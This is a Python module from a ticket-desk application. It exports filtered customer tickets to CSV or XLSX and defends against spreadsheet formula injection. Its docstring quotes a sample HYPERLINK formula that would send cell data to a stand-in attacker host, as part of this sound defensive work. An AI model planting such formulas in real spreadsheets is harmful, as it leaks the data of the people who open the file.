"""Exporting the filtered ticket list to .csv or .xlsx, streamed a batch at a time.

Both formats carry the list's columns (``views.LIST_COLUMNS``) in a fixed order, its SLA
column as two: the state and the nearest running due time (``EXPORT_COLUMNS``). Times are written
in the local time zone, as the screens show them: in .xlsx as real date cells (Excel and
LibreOffice sort and filter them as dates), in .csv as ISO 8601 with the UTC offset. The file
is written next to its destination and moved into place only when complete, so a failed
export never leaves half a file behind; it is owner-only (0600): it holds customer data.

Texts are never formulas: customer names and comments come from the public survey forms, and
a spreadsheet runs a cell such as ``=HYPERLINK("http://evil.example/?x="&D2,"x")``. In .xlsx
every text is a string cell (``xlsx_text``); in .csv a text that begins with ``=``, ``+``,
``-``, ``@``, a tab or a CR gets one ``'`` in front (``csv_text``; ``csv_text_read`` undoes
it). Numbers and dates keep their types.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

from sqlalchemy import Engine

from cxdesk.errors import DeskError
from cxdesk.i18n import _
from cxdesk.locations import private_replacement
from cxdesk.store.db import read_session
from cxdesk.store.models import utcnow
from cxdesk.store.sla import STATE_WORDS
from cxdesk.store.views import LIST_COLUMNS, Sort, TicketFilter, TicketRow, iter_tickets

FORMATS = ("csv", "xlsx")
XLSX_DATE_FORMAT = "yyyy-mm-dd hh:mm"
SHEET_TITLE = "Tickets"


def _local(value: datetime) -> datetime:
    return value.astimezone()


EXPORT_ORDER = (
    "key", "response_id", "customer_name", "customer_email", "origin_team", "team", "owner",
    "priority", "status", "created_at", "customer_comment",
)  # fmt: skip
"""The file's column order, fixed: scripts read exports by position. The screen's order
(``LIST_COLUMNS``, what fits at 80 columns first) may change; this does not."""
EXPORT_COLUMNS = {
    **{name: LIST_COLUMNS[name] for name in EXPORT_ORDER},
    "sla_state": "SLA state",
    "sla_due_at": "SLA due",
}
"""The file's columns: the list's, with its SLA column as the state (in words, at the time of
the export) and the nearest due time of the targets still running."""


def _values(row: TicketRow, now: datetime) -> list[Any]:
    view = row.sla.view(now) if row.sla is not None else None
    sla = {
        "sla_state": STATE_WORDS[view.state] if view is not None else "",
        "sla_due_at": view.due_at if view is not None else None,
    }
    return [sla[name] if name in sla else getattr(row, name) for name in EXPORT_COLUMNS]


# -- texts that stay texts ---------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""A spreadsheet reads a .csv cell beginning with one of these as a formula (OWASP's list)."""
CSV_TEXT_PREFIX = "'"
XLSX_MAX_TEXT = 32_767
"""Excel's limit for the characters in one cell."""
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def csv_text(value: str) -> str:
    """``value`` as a .csv cell no spreadsheet runs: one ``'`` in front when it begins, after
    any apostrophes of its own, with a ``FORMULA_STARTS`` character (so ``csv_text_read`` can
    tell the added one from the text's)."""
    return CSV_TEXT_PREFIX + value if value.lstrip("'").startswith(FORMULA_STARTS) else value


def csv_text_read(cell: str) -> str:
    """The text ``csv_text`` was given, from the cell it made."""
    if cell.startswith(CSV_TEXT_PREFIX) and cell.lstrip("'").startswith(FORMULA_STARTS):
        return cell[len(CSV_TEXT_PREFIX) :]
    return cell


def xlsx_text(value: str) -> str:
    """What an .xlsx string cell holds for ``value``: line ends as LF (an XML reader turns a
    CR into an LF anyway), U+FFFD for the control characters XML cannot carry, at most
    ``XLSX_MAX_TEXT`` characters."""
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    return _NOT_IN_XML.sub("\ufffd", text)[:XLSX_MAX_TEXT]


# -- writers ------------------------------------------------------------------------------------


def write_csv(
    path: Path, batches: Iterable[Sequence[TicketRow]], *, now: datetime | None = None
) -> int:
    """The list's columns to a new .csv at ``path`` (UTF-8 with a BOM, which Excel needs to
    read UTF-8); returns the number of rows. SLA states are as at ``now``."""
    written, now = 0, now or utcnow()
    with path.open("w", newline="", encoding="utf-8-sig") as handle:
        writer = csv.writer(handle)
        writer.writerow(EXPORT_COLUMNS.values())
        for batch in batches:
            for row in batch:
                writer.writerow(_csv_cell(value) for value in _values(row, now))
                written += 1
    return written


def _csv_cell(value: object) -> object:
    if isinstance(value, datetime):
        return _local(value).isoformat(timespec="seconds")
    if isinstance(value, str):
        return csv_text(value)
    return value


def write_xlsx(
    path: Path, batches: Iterable[Sequence[TicketRow]], *, now: datetime | None = None
) -> int:
    """The list's columns to a new .xlsx at ``path``, streamed (write-only: rows go to the
    file, not kept in memory); returns the number of rows. SLA states are as at ``now``.
    openpyxl is imported here: only an .xlsx export loads it."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(SHEET_TITLE)
    sheet.append(list(EXPORT_COLUMNS.values()))
    written, now = 0, now or utcnow()
    for batch in batches:
        for row in batch:
            sheet.append([_xlsx_cell(sheet, v, WriteOnlyCell) for v in _values(row, now)])
            written += 1
    workbook.save(path)
    return written


def _xlsx_cell(sheet: Any, value: object, cell_class: Any) -> object:
    if isinstance(value, datetime):
        # Excel has no time zones: the local wall-clock time, as a date cell.
        cell = cell_class(sheet, value=_local(value).replace(tzinfo=None))
        cell.number_format = XLSX_DATE_FORMAT
        return cell
    if isinstance(value, str):
        # openpyxl makes a text beginning with "=" a formula and "#N/A" an error: a string.
        cell = cell_class(sheet, value=xlsx_text(value))
        cell.data_type = "s"
        return cell
    return value


def export_tickets(
    engine: Engine,
    flt: TicketFilter,
    output: Path,
    *,
    fmt: str | None = None,
    sort: Sort = Sort(),
) -> int:
    """Write the filtered list to ``output`` (.csv or .xlsx, from ``fmt`` or the suffix);
    returns how many tickets were written."""
    fmt = (fmt or output.suffix.lstrip(".")).lower()
    if fmt not in FORMATS:
        raise DeskError(
            _("Export format must be csv or xlsx, not {format!r}").format(format=fmt or "nothing")
        )
    output = output.expanduser()
    if output.is_dir():
        raise DeskError(_("{output} is a folder; give a file name").format(output=output))
    if not output.parent.is_dir():
        raise DeskError(_("Folder {parent} does not exist").format(parent=output.parent))
    try:
        # Owner-only (0600) whatever the umask: an export holds customer data.
        with private_replacement(output) as temporary, read_session(engine) as session:
            batches = iter_tickets(session, flt, sort=sort)
            writer = write_csv if fmt == "csv" else write_xlsx
            return writer(temporary, batches)
    except OSError as exc:
        raise DeskError(
            _("Cannot write {path}: {strerror}").format(path=output, strerror=exc.strerror or exc)
        ) from exc
